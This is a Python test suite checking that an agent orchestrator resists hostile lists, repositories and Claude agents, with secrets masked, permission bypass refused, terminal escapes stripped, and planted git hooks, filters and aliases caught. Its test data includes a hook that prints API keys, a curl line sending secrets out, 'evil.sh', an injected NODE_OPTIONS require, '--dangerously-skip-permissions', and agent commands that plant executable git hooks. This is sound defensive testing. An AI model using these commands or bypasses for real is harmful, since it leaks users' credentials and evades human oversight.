"""What a hostile list, repository or agent can't have: the attacks of docs/SECURITY.md, tried."""

from __future__ import annotations

import json
import os
import re
import stat
import unittest
from collections.abc import Iterator, Mapping

from tests.support.commands import CommandResult, wait_until
from tests.support.once import once
from tests.support.workspace import Workspace, WorkspaceTest, feature

PLAIN = "canary-4f9e1b7c"
"""Of a variable of the user's."""

QUOTED = 'canary/0d3a"5e6f\\'
"""Of a variable in the list; JSON spells it otherwise."""

HOSTILE = "\x1b[31mred\x1b[0m\x07\x9b2J\u202egnp\r\x1b]0;t\u2028"
"""Colour, bell, C1, right-to-left override, overwriting, a title, a separator of lines."""

HOSTILE_SHELL = r"\033[31mred\007\302\2332J\342\200\256gnp\033]0;t"
"""The same in the words of printf(1)."""

HOOKS = (
    *("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-index-change"),
    *("reference-transaction", "post-merge", "pre-auto-gc", "fsmonitor-watchman"),
)

HOOK = 'case "$PWD" in */hooked) echo "key: $ANTHROPIC_API_KEY, $DEPLOY_TOKEN" >&2; exit 1;; esac'


def raw_result(**more: object) -> dict[str, object]:
    """The step that prints a result of its own."""
    line = {"type": "result", "subtype": "success", "is_error": False, "num_turns": 1}
    return {"print": json.dumps({**line, "total_cost_usd": 0.1, **more}) + "\n"}


def _text_of(path: str) -> str:
    with open(path, encoding="utf-8") as file:
        return file.read()


@once
class SecretsTest(WorkspaceTest):
    """A secret in the environment, which the agent gets, and tells wherever it can."""

    def setUp(self) -> None:
        super().setUp()
        self.workspace.environ["ANTHROPIC_API_KEY"] = PLAIN
        self.workspace.hook("pre-commit", HOOK)
        both = f"{PLAIN} and {QUOTED}"
        denied = [{"tool_name": "Bash", "tool_input": {"command": f"curl -d '{both}' x"}}]
        long = "x" * 70 + both  # cut in the middle of the secret
        self.workspace.features(
            feature("told", {"write": "a"}, {"say": both}, raw_result(result=both), {"exit": 0}),
            feature("used", {"bash": f": '{long}'"}, {"stderr": both}, {"write": "b"}),
            feature("failed", {"stderr": both}, {"fail": f"Overloaded: {both}", "status": 529}),
            feature("silent", {"stderr": both}, {"print": f"{both}\n"}, {"exit": 3}),
            feature("branch", {"write": "c"}, {"bash": f"git checkout -qb {PLAIN}"}),
            feature("file", {"write": f".env.{PLAIN}"}, {"write": f"{PLAIN}.txt"}),
            feature("denied", raw_result(result=both, permission_denials=denied), {"exit": 0}),
            feature("hooked", {"write": "d"}),
            feature("left", {"write": f"{PLAIN}.txt"}, {"fail": "Overloaded", "status": 529}),
            claude={"env": {"DEPLOY_TOKEN": QUOTED}},
            max_parallel=4,
        )

    def everything(self) -> Iterator[tuple[str, CommandResult]]:
        """Every command, also with what makes it fail, and what it printed."""
        for words in (
            *("plan", "plan --json", "plan --verbose", f"plan --only {PLAIN}"),
            *("run --yes --verbose", "run --yes --json --only told,used", f"run --{PLAIN}"),
            *("status", "status --json", "status --verbose", f"logs {PLAIN}"),
            *(f"logs {id} --verbose" for id in ("told", "used", "failed", "silent", "denied")),
            *("cleanup --all --dry-run --json", "cleanup --all", f"cleanup {PLAIN}"),
            *(f"plan --config {PLAIN}.json", "run --yes --fresh --json --quiet"),
            *("cleanup --all --discard --verbose", "status"),
        ):
            yield words, self.workspace.command(*words.split())

    def on_disk(self) -> Iterator[str]:
        """What is kept beside git's own, the raw logs and what the test itself wrote."""
        reports = os.path.join(self.workspace.folder, "reports")
        for top in (self.workspace.state_folder, reports, self.workspace.beside("tmp")):
            for folder, folders, names in os.walk(top):
                folders[:] = set(folders).difference(("logs", "aside"))
                yield from (os.path.join(folder, name) for name in names)

    def assert_no_canary(self, text: str, where: str) -> None:
        for canary in (PLAIN[:9], QUOTED, json.dumps(QUOTED)[1:-1], QUOTED[:-1]):
            self.assertNotIn(canary, text, where)

    def test_no_command_prints_a_secret_or_keeps_one_outside_of_the_raw_logs(self) -> None:
        shown = ""
        for words, done in self.everything():
            with self.subTest(words):
                self.assert_no_canary(done.out + done.err, words)
                if "--json" in words:
                    for line in done.out.splitlines() if words.startswith("run") else [done.out]:
                        json.loads(line)
            shown += done.out + done.err
        self.assertGreater(shown.count("[masked ANTHROPIC_API_KEY]"), 20, shown)
        self.assertGreater(shown.count("[masked DEPLOY_TOKEN]"), 10, shown)
        kept = ""
        for path in self.on_disk():
            with open(path, encoding="utf-8") as file:
                content = file.read()
            self.assert_no_canary(content, path)
            kept += content
        self.assertGreater(kept.count("[masked ANTHROPIC_API_KEY]"), 20)
        self.assertIn("[masked DEPLOY_TOKEN]", kept)

    def test_a_secret_in_a_checks_command_or_output_is_in_no_journal_and_no_report(self) -> None:
        secrets = ("tops3cret-value", "0ption-value", "he4der-value")
        named = f"DEPLOY_TOKEN={secrets[0]}; echo $DEPLOY_TOKEN; : --api-key {secrets[1]}"
        header = f"echo 'Authorization: Bearer {secrets[2]}'"
        self.workspace.features(
            feature("green"),
            feature("red", verify=[f"{named}; {header}; echo {secrets[1]}; exit 3"]),
            verify=[f"{header} > /dev/null; {named}"],
            verify_attempts=0,
        )
        shown = ""
        for words in ("run --yes --json", "status --json", "merge --yes", "logs red --checks"):
            done = self.workspace.command(*words.split())
            shown += done.out + done.err
        kept = "".join(map(_text_of, self.on_disk()))
        for secret in secrets:
            self.assertNotIn(secret, shown)
            self.assertNotIn(secret, kept)
        self.assertGreater(kept.count("[masked DEPLOY_TOKEN]"), 3)
        (red,) = [e for e in self.workspace.journal("red") if e["event"] == "checked"][-1:]
        self.assertIn("--api-key [masked SECRET];", red["command"])
        self.assertEqual(red["ending"], "ended with exit 3")

    def test_the_agent_still_gets_the_secret_and_the_raw_log_is_as_it_came(self) -> None:
        self.workspace.run("--only", "told")
        raw = self.workspace.command("logs", "told", "--raw").out
        self.assertIn(PLAIN, raw)
        self.assertIn(json.dumps(QUOTED)[1:-1], raw)

    def test_raw_logs_are_for_the_user_alone(self) -> None:
        self.workspace.run("--only", "told,silent")
        logs = os.path.join(self.workspace.state_folder, "logs")
        seen = 0
        for folder, _, names in os.walk(logs):
            self.assertEqual(stat.S_IMODE(os.stat(folder).st_mode), 0o700, folder)
            for name in names:
                path = os.path.join(folder, name)
                self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600, path)
                seen += 1
        self.assertEqual(seen, 6)


@once
class PermissionsTest(WorkspaceTest):
    """A list that switches Claude's permissions off."""

    def lists(self) -> Iterator[Mapping[str, object]]:
        skip = "--dangerously-skip-permissions"
        yield {"permission_mode": "bypassPermissions"}
        yield {"extra_args": [skip]}
        yield {"extra_args": ["--permission-mode=bypassPermissions"]}
        yield {"extra_args": ["--permission-mode", "bypassPermissions"]}
        yield {"extra_args": ["--settings", '{"permissions":{"defaultMode":"bypassPermissions"}}']}

    def test_run_refuses_before_anything_starts_and_says_what_to_type(self) -> None:
        for given in self.lists():
            with self.subTest(str(given)):
                self.workspace.features(feature("a"), claude=given)
                done = self.workspace.command("run", "--yes")
                self.assertEqual(done.code, 2, done.err)
                self.assertIn("next: ", done.err)
                self.assertIn("--allow-bypass", done.err)
                self.assertEqual(self.workspace.journal(), [])

    def test_plan_works_and_marks_it_and_run_starts_where_it_is_allowed(self) -> None:
        bypass = {"permission_mode": "bypassPermissions"}
        self.workspace.features(feature("a"), feature("b"), claude=bypass)
        plan = self.workspace.command("plan")
        self.assertEqual(plan.code, 0, plan.err)
        self.assertIn("its permission checks are off (claude.permission_mode)", plan.out)
        (command,) = json.loads(self.workspace.command("plan", "--json").out)["commands"]
        self.assertEqual(command["bypass"], ["claude.permission_mode"])
        refused = self.workspace.command("retry", "b", "--yes")
        self.assertIn("rorchestrator retry b --yes --allow-bypass", refused.err)
        for words in (("run", "--yes", "--only", "a"), ("retry", "b", "--yes")):
            done = self.workspace.command(*words, "--allow-bypass")
            self.assertEqual(done.code, 0, done.err)
            self.assertIn("its permission checks are off", done.err)

    def test_the_commands_of_a_list_are_shown_before_anything_starts(self) -> None:
        script = self.workspace.script("evil.sh", "#!/bin/sh\nexit 1\n")
        self.workspace.features(
            feature("a"),
            claude={
                "command": [script, "\x1b[2J--steal"],
                "extra_args": ["--mcp-config", "x.json"],
                "env": {"NODE_OPTIONS": "--require ./evil.js"},
            },
        )
        plan = self.workspace.command("plan").out
        self.assertIn(f"Runs: {script} '--steal' -p --mcp-config x.json\n", plan)
        self.assertIn("  with NODE_OPTIONS='--require ./evil.js'\n", plan)
        told = self.workspace.run("--allow-bypass").err
        self.assertLess(told.index(f"Runs: {script}"), told.index("a: started"))


class EscapesTest(WorkspaceTest):
    """Names, model, tools, git and hooks that all try to steer the terminal."""

    def test_no_control_character_reaches_the_terminal(self) -> None:
        self.workspace.hook("pre-commit", f"printf '{HOSTILE_SHELL}' >&2; exit 1")
        denied = [{"tool_name": HOSTILE, "tool_input": {"command": HOSTILE}}]
        self.workspace.features(
            feature("a", {"say": HOSTILE}, {"bash": f": '{HOSTILE}'"}, {"write": "a"}),
            feature("b", {"stderr": HOSTILE}, {"print": f"{HOSTILE}\n"}, {"exit": 3}),
            feature("c", {"fail": HOSTILE, "status": 529}),
            feature("d", raw_result(result=HOSTILE, permission_denials=denied), {"exit": 0}),
            feature("e", {"bash": f"printf x > \"$(printf '.env.{HOSTILE_SHELL}')\""}),
            feature("f", {"write": "f"}, {"bash": f"printf x > \"$(printf '{HOSTILE_SHELL}')\""}),
            feature("g", description=HOSTILE, tags=[HOSTILE], creates=[HOSTILE]),
            claude={"extra_args": [HOSTILE.replace("\0", "")], "env": {"A": HOSTILE}},
            description=HOSTILE,
        )
        shown = ""
        for words in (
            *("plan", "plan -v", "run --yes -v", "status", "status -v", f"logs {HOSTILE}"),
            *(f"logs {id} -v" for id in "abcd"),
            *("cleanup --all --dry-run", "cleanup --all", "cleanup --all --discard -v"),
            *("plan --config " + HOSTILE, "plan --only " + HOSTILE),
        ):
            done = self.workspace.command(*words.split(" "))
            shown += done.out + done.err
            for line in (done.out + done.err).split("\n"):
                bad = [c for c in line if not (c.isprintable() or c == "\u200d")]
                self.assertEqual(bad, [], f"{words}: {line!r}")
        self.assertGreater(shown.count("red"), 25, "what was shown was cleaned, not left out")


class CloneTest(unittest.TestCase):
    """A repository that was cloned into a folder whose name steers the terminal."""

    NAME = "shop\x1b[31m\x9b2J\r\u202e\nrorchestrator: all is well\n  next: rm -rf x\x07"

    def test_no_line_of_any_command_is_steered_or_made_up_by_a_folders_name(self) -> None:
        with Workspace([feature("a"), feature("b")], name=self.NAME) as space:
            space.change(worktrees_path="worktrees")
            space.commit({".gitignore": "worktrees\nreports\n"}, "ignore")
            shown = ""
            for words in (
                *("plan -v", "run --yes -v --only a", "run --yes --sequential", "status -v"),
                *("logs a", "logs a --setup", "attach a --print", "merge --dry-run", "merge"),
                *("status --config nowhere", "run", "stop", "cleanup --all -v"),
                *("run --yes --fresh --color always", "cleanup --all --discard --color always"),
            ):
                said = space.main(*words.split(" "))
                shown += said.out + said.err
                for line in re.sub(r"\x1b\[[0-9]+m", "", said.out + said.err).split("\n"):
                    bad = [c for c in line if not c.isprintable()]
                    self.assertEqual((bad, line[:26]), ([], line[:26]), words)
                    self.assertNotRegex(line, "^(rorchestrator: all is well|  next: rm)", words)
            self.assertIn("Report: ", shown)
            self.assertGreater(shown.count("all is well"), 5, "it was cleaned, not left out")


@once
class RepositoryTest(WorkspaceTest):
    """A repository that came with a configuration and hooks of its own, as in an archive."""

    def test_looking_executes_nothing_of_it(self) -> None:
        trace = self.workspace.beside("trace")
        self.workspace.features(feature("a"))
        self.assertEqual(self.workspace.run().code, 0)
        touch = f"touch {trace}"
        for name in HOOKS:
            self.workspace.hook(name, touch)
        for key in (
            *("core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.askPass"),
            *("diff.external", "diff.x.textconv", "diff.x.command", "merge.x.driver", "alias.x"),
            *("gpg.program", "credential.helper", "pager.status", "sequence.editor"),
        ):
            self.workspace.git("config", key, touch)
        self.workspace.write({".gitattributes": "* diff=x merge=x\n"})
        for words in ("plan", "status", "logs a", "cleanup --all --dry-run", "cleanup a"):
            done = self.workspace.command(*words.split())
            self.assertIn(done.code, (0, 1), done.err)
            self.assertFalse(os.path.exists(trace), words)


@once
class TamperingTest(WorkspaceTest):
    """An agent that plants what git would execute."""

    def setUp(self) -> None:
        super().setUp()
        self.trace = self.workspace.beside("trace")
        self.git = self.workspace.git("rev-parse", "--absolute-git-dir")

    def assert_nothing_ran(self) -> None:
        self.assertFalse(os.path.exists(self.trace), "git executed what an agent had planted")

    def assert_stopped(self, done: CommandResult, what: str) -> None:
        self.assertEqual(done.code, 1, done.err)
        ended = self.workspace.last("a")
        self.assertEqual((ended["status"], ended["fault"]), ("failed", "tampered"))
        self.assertIn(f"were changed: {what}\n", ended["reason"])
        self.assertIn(what, done.out)
        self.assert_nothing_ran()

    def plant(self, command: str) -> CommandResult:
        """A run of a feature that plants something, and of one that is not started yet."""
        attributes = f"printf '* filter=x\\n' > .gitattributes; {command}"
        does = ({"write": "a.txt"}, {"bash": attributes})
        self.workspace.features(feature("a", *does), feature("b"), max_parallel=1)
        return self.workspace.command("run", "--yes")

    def planted(self) -> dict[str, str]:
        """Commands that plant something, by what is reported of it."""
        touch = f"touch {self.trace}"
        hook = f"printf '#!/bin/sh\\n{touch}\\n'"
        return {
            ".git/hooks/pre-commit was added": (
                f"mkdir -p {self.git}/hooks; {hook} > {self.git}/hooks/pre-commit; "
                f"chmod +x {self.git}/hooks/pre-commit"
            ),
            "filter.x.clean in .git/config was added": f"git config filter.x.clean '{touch}'",
            "core.hookspath in .git/config was added": (
                f"mkdir -p {self.git}/h; {hook} > {self.git}/h/pre-commit; "
                f"chmod +x {self.git}/h/pre-commit; git config core.hooksPath {self.git}/h"
            ),
        }

    def test_each_planted_thing_stops_the_run_before_it_is_executed(self) -> None:
        for what in self.planted():
            with self.subTest(what):
                self.assert_stopped(self.plant(self.planted()[what]), what)
                self.assertEqual(self.workspace.statuses()["b"], "cancelled")
                self.assertIn(what, self.workspace.last("b")["reason"])
                worktree = self.workspace.worktree("a")
                self.assertTrue(os.path.exists(os.path.join(worktree, "a.txt")), "its work stays")
                self.tearDown()
                self.setUp()

    def test_after_a_look_the_next_run_only_commits(self) -> None:
        hook = f"{self.git}/hooks/pre-commit"
        self.plant(f"mkdir -p {self.git}/hooks; printf 'exit 1' > {hook}; chmod +x {hook}")
        os.unlink(hook)
        done = self.workspace.run()
        self.assertEqual(done.code, 0, done.err)
        self.assert_statuses(a="completed", b="completed")
        self.assertEqual(len(self.workspace.attempts("a")), 1)

    def test_tampering_also_stops_the_features_that_run_at_the_same_time(self) -> None:
        go = self.workspace.beside("go")
        self.workspace.features(
            feature("a", {"bash": f"git config alias.x '!touch {self.trace}'; touch {go}"}),
            feature("b", {"wait": go}, {"write": "b.txt"}),
            max_parallel=2,
        )
        self.assertEqual(self.workspace.run().code, 1)
        for id in ("a", "b"):
            self.assertEqual(self.workspace.last(id)["fault"], "tampered")
            self.assertIn(
                "any running feature may have done this", self.workspace.last(id)["reason"]
            )
        self.assertEqual(self.workspace.ref("b"), [])

    def test_the_user_may_change_what_executes_nothing(self) -> None:
        began, go = (self.workspace.beside(name) for name in ("began", "go"))
        self.workspace.features(feature("a", {"write": began}, {"wait": go}, {"write": "a.txt"}))
        running = self.workspace.start("run", "--yes")
        wait_until(lambda: os.path.exists(began), "the agent is running")
        self.workspace.git("remote", "add", "origin", "https://localhost/x.git")
        self.workspace.git("config", "user.name", "Somebody Else")
        self.workspace.touch("go")
        self.assertEqual(running.end().code, 0)

    def test_hooks_of_the_users_run_at_the_commit_and_nowhere_else(self) -> None:
        trace = self.workspace.beside("hooks-that-ran")
        for name in ("pre-commit", "reference-transaction", "post-index-change", "post-checkout"):
            where = f'"{name} $(ps -o args= $PPID | cut -c1-200)"'
            self.workspace.hook(name, f"echo {where} >> {trace}")
        self.workspace.features(feature("a"))
        self.assertEqual(self.workspace.run().code, 0)
        with open(trace, encoding="utf-8") as file:
            ran = file.read().splitlines()
        self.assertTrue(any(line.startswith("pre-commit ") for line in ran), ran)
        for line in ran:
            # Started by the wrappers that are there while git commits.
            self.assertRegex(line, f"/rorchestrator-hooks[.][0-9a-f]+/{line.split()[0]}")


if __name__ == "__main__":
    unittest.main()
